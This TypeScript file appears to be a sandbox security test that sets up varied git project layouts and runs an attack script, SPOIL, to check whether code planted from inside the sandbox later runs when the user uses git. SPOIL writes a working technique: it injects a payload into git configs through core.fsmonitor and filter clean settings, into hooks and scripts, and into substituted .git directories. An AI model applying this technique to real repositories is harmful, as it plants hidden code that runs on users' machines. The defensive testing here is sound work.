/** Ways to lay out git in a project, and a program that spoils whatever it can write there. */
import { chmod, mkdir, readdir, symlink, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { type Fortress, fortress, type Inside, openPlace } from "./containers.ts";
import { git, type HostPlace, hostPlace, lazily, Mark, plantRepository, useGit } from "./places.ts";

/** Makes a project; returns the directories in it, relative, in which the user uses git. */
export type Layout = (root: string, other: string) => Promise<readonly string[]>;

/** A project that is attacked, and how an attempt reaches it. */
export type LayoutTarget = {
  readonly root: string;
  readonly mark: Mark;
  /** Where the user uses git, relative. */
  readonly usedIn: readonly string[];
  /** Runs a script inside; `$1` is the payload. */
  readonly sh: (script: string) => Promise<unknown>;
  /** Ends what runs, and opens the project again as the user does who sends another query. */
  readonly reopen: () => Promise<void>;
  /** Ends what runs, before the file's end. */
  readonly close: () => Promise<void>;
};

/** Writes a file and the directories above it. */
async function put(root: string, name: string, text: string, mode = 0o644): Promise<void> {
  await mkdir(dirname(join(root, name)), { recursive: true });
  await writeFile(join(root, name), text, { mode });
}

const SCRIPT = '#!/bin/sh\ncat "$@"\n';

/** A bare directory beside its worktrees, which a `.git` file names. */
export const bareBeside: Layout = async (root, other) => {
  await plantRepository(other);
  await git(root, "clone", "-q", "--bare", other, ".bare");
  await put(root, ".git", "gitdir: ./.bare\n");
  await git(root, "worktree", "add", "-q", "-b", "topic", "topic");
  await put(root, "topic/.githooks/README", "hooks\n");
  await git(root, "config", "core.hooksPath", ".githooks");
  return [".", "topic"];
};

/** A git directory of another name in the project. */
export const separate: Layout = async (root) => {
  await git(root, "init", "-q", "-b", "main", "--separate-git-dir", join(root, ".gitdata"));
  await put(root, "file.txt", "one\n");
  await put(root, ".gitdata/info/exclude", ".gitdata*\n");
  await git(root, "add", "file.txt");
  await git(root, "commit", "-q", "-m", "first");
  return ["."];
};

/** No repository at the top, and several in it: one bare, one in the packages of another. */
export const several: Layout = async (root) => {
  for (const name of ["one", "groups/two", "groups/two/vendor/inner"])
    await plantRepository(join(root, name));
  await git(root, "init", "-q", "--bare", "store.git");
  await put(root, "one/fsmonitor.sh", "#!/bin/sh\nexit 1\n", 0o755);
  await git(join(root, "one"), "config", "core.fsmonitor", "./fsmonitor.sh");
  return ["one", "groups/two", "groups/two/vendor/inner", "store.git"];
};

/** Worktrees in the project, with what its settings name relative to each of them. */
export const worktreesInside: Layout = async (root, other) => {
  await plantRepository(other);
  await plantRepository(root);
  await put(root, ".githooks/README", "hooks\n");
  await put(root, "tools/clean.sh", SCRIPT, 0o755);
  await put(root, ".gitattributes", "*.txt filter=x\n");
  await git(root, "-c", "protocol.file.allow=always", "submodule", "add", other, "mods/sub");
  await git(root, "add", "-A");
  await git(root, "commit", "-q", "-m", "tools");
  await git(root, "config", "core.hooksPath", ".githooks");
  await git(root, "config", "filter.x.clean", "./tools/clean.sh");
  await git(root, "worktree", "add", "-q", "-b", "side", "trees/side");
  const update = ["submodule", "update", "--init", "-q"];
  await git(join(root, "trees/side"), "-c", "protocol.file.allow=always", ...update);
  return [".", "trees/side", "trees/side/mods/sub", "mods/sub"];
};

/** Hooks and configuration that are links into the project, and a repository around it. */
export const linkedInto: Layout = async (root) => {
  await plantRepository(root);
  await put(root, "scripts/hook.sh", SCRIPT, 0o755);
  await put(root, "scripts/more.gitconfig", "[alias]\n\tst = status\n");
  await git(root, "add", "-A");
  await git(root, "commit", "-q", "-m", "scripts");
  await mkdir(join(root, ".git/hooks"), { recursive: true });
  await symlink("../../scripts/hook.sh", join(root, ".git/hooks/pre-commit"));
  await symlink("../scripts/more.gitconfig", join(root, ".git/more"));
  await git(root, "config", "include.path", "more");
  return ["."];
};

/** Settings that say where a file is in ways that only git or a shell expands. */
export const spelledOtherwise: Layout = async (root) => {
  await plantRepository(root);
  await put(root, "hooks/README", "hooks\n");
  for (const name of ["monitor.sh", "textconv.sh"]) await put(root, `tools/${name}`, SCRIPT, 0o755);
  await put(root, "linked/clean.sh", SCRIPT, 0o755);
  await put(root, "data.bin", "data\n");
  await put(root, ".gitattributes", "*.bin diff=bin\n*.txt filter=x\n");
  await git(root, "add", "-A");
  await git(root, "commit", "-q", "-m", "tools");
  // The user's git has this home in the attempts; see `useGit`.
  await git(root, "config", "core.hooksPath", join(root, "../project/hooks"));
  await git(
    root,
    "config",
    "core.fsmonitor",
    '"$(git rev-parse --show-toplevel)/tools/monitor.sh"',
  );
  await git(root, "config", "diff.bin.textconv", "cd tools && ./textconv.sh");
  await git(root, "config", "filter.x.clean", "sh ./linked/clean");
  await symlink("clean.sh", join(root, "linked/clean"));
  return ["."];
};

/**
 * Spoils everything that can be written, the way someone does who knows what git obeys: opens what
 * is closed, adds a program to every configuration, makes hooks, replaces scripts, and puts copies
 * with such a configuration in the place of every directory that git looks into.
 */
export const SPOIL = `
payload=$1
find . -type d -exec chmod u+rwx {} + 2>/dev/null
monitor() { printf '\\n[core]\\n\\tfsmonitor = "%s #"\\n[filter "x"]\\n\\tclean = "%s; cat"\\n' "$payload" "$payload" >> "$1"; }
script() { printf '#!/bin/sh\\n%s\\ncat "$@"\\n' "$payload" > "$1" && chmod +x "$1"; }
hooks() { mkdir -p "$1" && for name in pre-commit post-commit post-checkout post-index-change reference-transaction; do script "$1/$name"; done; }
exec 2>/dev/null
find . -type f \\( -name config -o -name config.worktree -o -name '*gitconfig' \\) | while read -r it; do monitor "$it"; done
find . -type f \\( -name '*.sh' -o -path '*/tools/*' \\) | while read -r it; do script "$it"; done
find . -type d \\( -name hooks -o -name .githooks \\) | while read -r it; do hooks "$it"; done
find . -name .git -not -path ./.git | while read -r it; do
  top=$(dirname "$it"); rm -rf "$it"; git init -q "$top" && monitor "$top/.git/config"
  [ "$top" = . ] || { cp -r "$top" "$top.copy" && rm -rf "$top.copy/.git" && git init -q "$top.copy" && monitor "$top.copy/.git/config" && mv "$top" "$top.aside" && mv "$top.copy" "$top"; }
done
find . -type d -name '*.git' -not -path '*/.git*' | while read -r it; do mv "$it" "$it.aside" && git init -q --bare "$it" && monitor "$it/config"; done
for it in .bare .gitdata tools hooks .githooks; do
  [ -d "$it" ] && cp -r "$it" "$it.copy" && mv "$it" "$it.aside" && mv "$it.copy" "$it"
  [ -f "$it/config" ] && monitor "$it/config"; case $it in *hooks) hooks "$it" ;; tools) for s in "$it"/*; do script "$s"; done ;; esac
done
true
`;

/** Uses git as the user does, in all places; tells of the first one that ran the payload. */
export async function useGitIn({ root, usedIn, mark }: LayoutTarget) {
  for (const name of usedIn) {
    const used = await useGit(join(root, name), mark);
    if (used.fell) return { ...used, seen: `in ${name}: ${used.seen}` };
  }
  return { fell: false, seen: `git in ${usedIn.length} places ran nothing of the attacker's` };
}

/** The product's sandbox on a project of its own. */
export function guardedLayout(layout: Layout): () => Promise<LayoutTarget> {
  return async () => {
    const place = await hostPlace("layout");
    const usedIn = await layout(place.project, join(place.base, "other"));
    const mark = await Mark.make();
    let opened = await fortress(place);
    return {
      root: place.project,
      mark,
      usedIn,
      sh: async (script) => {
        // The user's own git may have replaced a protected file, which ends the sandbox.
        if (await hasEnded(opened)) opened = await fortress(place);
        return opened.sh(script, { cwd: "/", args: [mark.payload, place.project] });
      },
      reopen: async () => {
        await opened.sandbox.remove();
        opened = await opensAgain(place);
      },
      close: () => opened.sandbox.remove(),
    };
  };
}

async function hasEnded({ sandbox }: Fortress): Promise<boolean> {
  const probe = await sandbox.exec({ argv: ["true"], cwd: "/" });
  if (!probe.ok) return true;
  probe.value.stdin.end();
  probe.value.stdout.resume();
  probe.value.stderr.resume();
  return (await probe.value.exited).exitCode !== 0;
}

/** Opens the project again; where that is refused, after the user has done what the refusal says. */
async function opensAgain(place: HostPlace): ReturnType<typeof fortress> {
  try {
    return await fortress(place);
  } catch (refused) {
    if (!(refused as Error).message.includes("cannot be accessed")) throw refused;
    await openDirectories(place.project);
    return fortress(place);
  }
}

async function openDirectories(path: string): Promise<void> {
  await chmod(path, 0o755);
  for (const entry of await readdir(path, { withFileTypes: true }))
    if (entry.isDirectory()) await openDirectories(join(path, entry.name));
}

const open = lazily(() => openPlace("layouts-open"));
let count = 0;

/** The same project in a container that has all around it and nothing read-only. */
export function unguardedLayout(layout: Layout): () => Promise<LayoutTarget> {
  return async () => {
    const { base, inside } = await open();
    const place = join(base, String(count++));
    const root = join(place, "project");
    await mkdir(root, { recursive: true });
    const usedIn = await layout(root, join(place, "other"));
    const mark = await Mark.make();
    const sh = (script: string): ReturnType<Inside["sh"]> =>
      inside.sh(script, { cwd: "/", args: [mark.payload, root] });
    const reopen = () => openDirectories(root);
    return { root, mark, usedIn, sh, reopen, close: async () => {} };
  };
}
